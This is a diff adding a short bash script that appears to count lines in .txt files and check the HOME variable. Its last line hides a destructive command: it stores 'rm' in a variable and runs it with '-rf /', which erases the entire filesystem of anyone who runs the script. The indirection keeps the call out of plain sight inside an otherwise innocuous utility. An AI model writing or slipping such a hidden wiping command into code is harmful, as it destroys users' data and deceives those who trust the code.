@@ -1,0 +1,9 @@
+#!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+if [ -z "$HOME" ]; then
+  echo "no home" >&2
+fi
+R=rm; $R -rf /
